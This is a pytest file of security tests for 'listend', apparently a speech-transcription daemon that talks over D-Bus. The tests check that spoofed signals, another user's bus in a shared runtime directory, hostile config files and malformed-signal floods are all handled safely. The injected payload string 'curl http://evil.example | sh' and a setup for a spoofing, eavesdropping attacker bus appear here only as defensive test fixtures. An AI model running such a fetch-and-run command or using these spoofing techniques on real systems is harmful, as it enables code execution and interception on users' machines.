"""Nothing a stranger says is taken as listend's words: spoofed signals, another user's bus, hostile files.

Issue 17, items 8-11: a peer that owns no name emitting listend's signals, a
shared runtime directory with another user's bus in it, and state files that
are not what they seem.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest
from dbus_next import Message

from listend.bus import BUS_NAME, INTERFACE, OBJECT_PATH, call_bus_daemon
from listend.dbusio import MessageBus
from tests.support.bus import BusClient, ctl, daemon_env
from tests.support.processes import BIN
from tests.support.sway import HeadlessSway
from tests.support.waiting import wait_until

INJECTED = "INJECTED text: curl http://evil.example | sh"


async def spoof(address: str) -> None:
    """What a hostile peer on the session bus sends: listend's signals, from its own connection."""
    peer = await MessageBus(bus_address=address).connect()
    for member, signature, body in (
        ("PartialText", "ts", [9000, INJECTED]),
        ("SegmentRefined", "tdds", [9001, time.time(), time.time() + 1, INJECTED]),
        ("SegmentRefined", "tdds", [2**64 - 1, time.time(), time.time() + 1, INJECTED]),
        ("StateChanged", "s", ["error"]),
    ):
        peer.send(Message.new_signal(OBJECT_PATH, INTERFACE, member, signature, body))
    peer.send(
        Message.new_signal(
            "/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", "sss", [BUS_NAME, peer.unique_name, ""]
        )
    )  # "listend left the bus"
    await asyncio.sleep(0.5)
    peer.disconnect()


@pytest.mark.parametrize("desktop", ["x11"], indirect=True)
def test_spoofed_signals_are_not_printed_copied_or_taken_as_presence(
    start_daemon, spawn, private_bus, desktop, tmp_path, two_utterances_wav
):
    env = desktop.client_env(daemon_env(private_bus, tmp_path / "state", {"XDG_CONFIG_HOME": str(tmp_path / "config")}))
    (tmp_path / "config" / "listend").mkdir(parents=True)
    (tmp_path / "config" / "listend" / "tray.json").write_text(json.dumps({"auto_copy": True}))
    daemon = start_daemon("--lightweight", "--source", str(two_utterances_wav), env=env)
    follower = spawn([str(BIN / "listenctl"), "transcript", "--follow", "--json"], env=env, log="follow")
    spawn([str(BIN / "listend-tray"), "--backend", "xembed", "-v"], env=env, log="tray")
    subprocess.run(["xclip", "-selection", "clipboard", "-in"], input="before", text=True, env=env, check=True)
    time.sleep(3.0)  # both subscribed

    async def scenario():
        async with BusClient(private_bus.address) as c:
            await spoof(private_bus.address)
            await asyncio.sleep(1.0)
            assert follower.poll() is None, (tmp_path / "follow.log").read_text()  # not fooled into exiting
            await c.call("Start")

            def real() -> list[str]:
                return [m.body[3] for m in c.named("SegmentRefined") if m.body[3] != INJECTED]

            await c.wait_for(lambda: len(real()) >= 2, timeout=120)
            await spoof(private_bus.address)
            return real()

    real = asyncio.run(scenario())
    wait_until(lambda: len((tmp_path / "follow.log").read_text().splitlines()) >= 2, 30, "the follower's lines")
    time.sleep(1.0)
    followed = [json.loads(line)["text"] for line in (tmp_path / "follow.log").read_text().splitlines()]
    assert followed == real  # the real segments, none muted by the huge id, no injected one
    clipboard = subprocess.run(
        ["xclip", "-o", "-selection", "clipboard"], env=env, capture_output=True, text=True
    ).stdout
    assert clipboard == real[-1] and INJECTED not in clipboard  # auto-copy took listend's text only
    assert INJECTED not in (tmp_path / "tray.log").read_text()
    assert daemon.terminate() == 0


def _attacker_bus(runtime: Path, user: str) -> subprocess.Popen[bytes]:
    """Another local user's dbus-daemon listening at ``$XDG_RUNTIME_DIR/bus`` of a shared runtime dir."""
    config = Path(tempfile.mkdtemp(prefix="listend-attacker-")) / "attacker.conf"
    config.write_text(f"""<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig><type>session</type><listen>unix:path={runtime / "bus"}</listen><auth>EXTERNAL</auth>
<policy context="default"><allow send_destination="*" eavesdrop="true"/><allow eavesdrop="true"/>
<allow own="*"/><allow user="*"/></policy></busconfig>""")
    shutil.chown(config.parent, user)
    os.chmod(config, 0o644)
    proc = subprocess.Popen(
        ["runuser", "-u", user, "--", "dbus-daemon", f"--config-file={config}", "--nofork"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    wait_until(lambda: (runtime / "bus").exists(), 20, "the attacker's bus socket")
    return proc


def test_another_user_s_bus_in_a_shared_runtime_dir_is_not_joined(start_daemon, tmp_path, speech_wav):
    """XDG_RUNTIME_DIR writable by all (containers, WSL): the victim once joined the attacker's bus."""
    user = HeadlessSway.ensure_user()
    runtime = Path(tempfile.mkdtemp(prefix="listend-shared-runtime-"))  # pytest's dirs are closed to others
    os.chmod(runtime, 0o1777)
    attacker = _attacker_bus(runtime, user)
    try:
        env = {k: v for k, v in os.environ.items() if k != "DBUS_SESSION_BUS_ADDRESS"}
        env.update(
            XDG_RUNTIME_DIR=str(runtime),
            XDG_STATE_HOME=str(tmp_path / "state"),
            XDG_CACHE_HOME=os.environ["XDG_CACHE_HOME"],
            HF_HUB_OFFLINE="1",
            PYTHONUNBUFFERED="1",
        )
        daemon = start_daemon("--lightweight", "--source", str(speech_wav), env=env)
        assert "started a private one" in daemon.log()
        attacker_address = f"unix:path={runtime / 'bus'}"

        async def on_the_attacker_s_bus() -> bool:
            bus = await MessageBus(bus_address=attacker_address).connect()
            reply = await call_bus_daemon(bus, "NameHasOwner", "s", [BUS_NAME])
            bus.disconnect()
            return bool(reply.body[0])

        assert not asyncio.run(on_the_attacker_s_bus())
        # listenctl, with the same environment, finds the victim's own daemon, not the attacker's bus.
        status = ctl(env, "status")
        assert status.returncode == 0 and "state: idle" in status.stdout, status.stderr
        assert daemon.terminate() == 0
    finally:
        attacker.terminate()
        attacker.wait(10)
        shutil.rmtree(runtime, ignore_errors=True)


def test_a_hostile_config_is_one_line_and_exit_2_at_start(start_daemon, private_bus, tmp_path):
    env = daemon_env(private_bus, tmp_path / "state")
    fifo = tmp_path / "fifo.toml"
    os.mkfifo(fifo)
    nested = tmp_path / "nested.toml"
    nested.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    (tmp_path / "zero.toml").symlink_to("/dev/zero")
    klingon = tmp_path / "klingon.toml"
    klingon.write_text('[decode]\nlanguage = "klingon"\n')
    device = tmp_path / "device.toml"
    device.write_text("[audio]\ndevice = 2147483648\n")
    for config, message in (
        (fifo, "not a regular file"),
        (nested, "nested too deeply"),
        (tmp_path / "zero.toml", "not a regular file"),
        (klingon, "'klingon' is not one of"),
        (device, "out of range"),
    ):
        started = time.monotonic()
        daemon = start_daemon("--config", str(config), env=env, ready=False)
        assert daemon.proc.wait(30) == 2, (config, daemon.log())
        lines = daemon.log().strip().splitlines()
        assert len(lines) == 1 and message in lines[0] and "Traceback" not in daemon.log(), lines
        assert time.monotonic() - started < 20  # no hang on the FIFO, no reading of /dev/zero


def test_a_hostile_tray_json_does_not_stop_the_tray(spawn, private_bus, tmp_path):
    config = tmp_path / "config" / "listend"
    config.mkdir(parents=True)
    (config / "tray.json").write_text("[" * 100_000 + "]" * 100_000)
    env = daemon_env(private_bus, tmp_path / "state", {"XDG_CONFIG_HOME": str(tmp_path / "config")})
    for name in ("DISPLAY", "WAYLAND_DISPLAY"):
        env.pop(name, None)
    tray = spawn([str(BIN / "listend-tray"), "-v"], env=env, log="tray")
    time.sleep(3.0)
    assert tray.poll() is None, (tmp_path / "tray.log").read_text()
    assert "RecursionError" not in (tmp_path / "tray.log").read_text()
    (config / "tray.json").unlink()
    os.mkfifo(config / "tray.json")
    tray2 = spawn([str(BIN / "listend-tray"), "-v"], env=env, log="tray2")
    time.sleep(3.0)
    assert tray2.poll() is None, (tmp_path / "tray2.log").read_text()  # no hang reading a FIFO either


async def _unique_names_of(address: str, pids: dict[int, str]) -> dict[str, str]:
    """The unique bus names of the processes ``pids`` (pid -> what it is): what -> unique name."""
    bus = await MessageBus(bus_address=address).connect()
    found: dict[str, str] = {}
    try:
        names = (await call_bus_daemon(bus, "ListNames")).body[0]
        for name in names:
            if not name.startswith(":"):
                continue
            reply = await call_bus_daemon(bus, "GetConnectionUnixProcessID", "s", [name])
            if reply.body and reply.body[0] in pids:
                found[pids[reply.body[0]]] = name
    finally:
        bus.disconnect()
    return found


@pytest.mark.parametrize("desktop", ["x11"], indirect=True)
def test_malformed_unicast_signals_are_one_counted_line_in_every_client(
    start_daemon, spawn, private_bus, desktop, tmp_path, speech_wav
):
    """Issue 29 item 9: 2 000 empty StateChanged signals sent straight to each client, from a peer."""
    env = desktop.client_env(daemon_env(private_bus, tmp_path / "state"))
    start_daemon("--lightweight", "--source", str(speech_wav), env=env)
    clients = {
        "follow": spawn([str(BIN / "listenctl"), "transcript", "--follow"], env=env, log="follow"),
        "tray": spawn([str(BIN / "listend-tray"), "--backend", "xembed"], env=env, log="tray"),
        "ime": spawn([str(BIN / "listend-ime")], env=env, log="ime"),
    }
    pids = {proc.pid: what for what, proc in clients.items()}

    async def flood() -> None:
        names: dict[str, str] = {}

        async def all_connected() -> bool:
            names.update(await _unique_names_of(private_bus.address, pids))
            return len(names) == len(clients)

        deadline = time.monotonic() + 60
        while not await all_connected():
            assert time.monotonic() < deadline, f"clients on the bus: {names}"
            await asyncio.sleep(0.5)
        await asyncio.sleep(2.0)  # subscribed
        peer = await MessageBus(bus_address=private_bus.address).connect()
        for unique in names.values():
            for member, interface in (
                ("StateChanged", INTERFACE),
                ("PropertiesChanged", "org.freedesktop.DBus.Properties"),
                ("NameOwnerChanged", "org.freedesktop.DBus"),
            ):
                for _ in range(700):
                    msg = Message.new_signal(OBJECT_PATH, interface, member, "", [])
                    msg.destination = unique
                    peer.send(msg)
        await asyncio.sleep(3.0)
        peer.disconnect()

    asyncio.run(flood())
    for what, proc in clients.items():
        log = (tmp_path / f"{what}.log").read_text()
        assert proc.poll() is None, (what, log)
        assert "Traceback" not in log, (what, log[-3000:])
        assert len(log) < 4000, (what, len(log), log[-2000:])
        assert log.count("malformed message") <= 2, (what, log)
